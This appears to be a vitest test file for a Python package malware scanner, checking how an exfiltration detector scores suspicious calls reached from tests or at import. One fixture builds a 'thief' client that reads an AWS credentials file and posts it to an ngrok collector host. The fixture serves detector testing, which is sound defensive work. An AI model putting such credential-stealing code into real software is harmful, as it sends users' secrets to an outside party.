import { expect, test } from 'vitest';
import { analysePacked, python, sdist } from '../support/inspect.ts';

const CLIENT = python(
  'import getpass, requests',
  'def sign_in():',
  "    return requests.post('https://api.broker.invalid/login', data={'password': getpass.getpass()}).json()",
);

test('a suspicion in the library that only a test nobody imports leads to keeps a part of its points', async () => {
  const asks = python('from broker.client import sign_in', 'sign_in()');
  const inTest = sdist({
    'broker/__init__.py': '',
    'broker/client.py': CLIENT,
    'broker/tests/__init__.py': '',
    'broker/tests/test_client.py': asks,
  });
  const atImport = sdist({ 'broker/__init__.py': asks, 'broker/client.py': CLIENT });
  const strongest = async (file: typeof inTest): Promise<number | undefined> =>
    (await analysePacked(file)).findings.find((f) => f.detector === 'exfiltration')?.score;

  expect(await strongest(inTest)).toBe(2.4);
  expect(await strongest(atImport)).toBe(4);
});

test('malware in the library that a test leads to keeps all of its points', async () => {
  const thief = CLIENT.replace('api.broker.invalid', 'collector.ngrok.io').replace(
    'getpass.getpass()',
    "open('/home/me/.aws/credentials').read()",
  );
  const file = sdist({
    'broker/__init__.py': '',
    'broker/client.py': thief,
    'broker/tests/__init__.py': '',
    'broker/tests/test_client.py': python('from broker.client import sign_in', 'sign_in()'),
  });

  expect((await analysePacked(file)).findings[0]).toMatchObject({ class: 'malware', score: 10 });
});
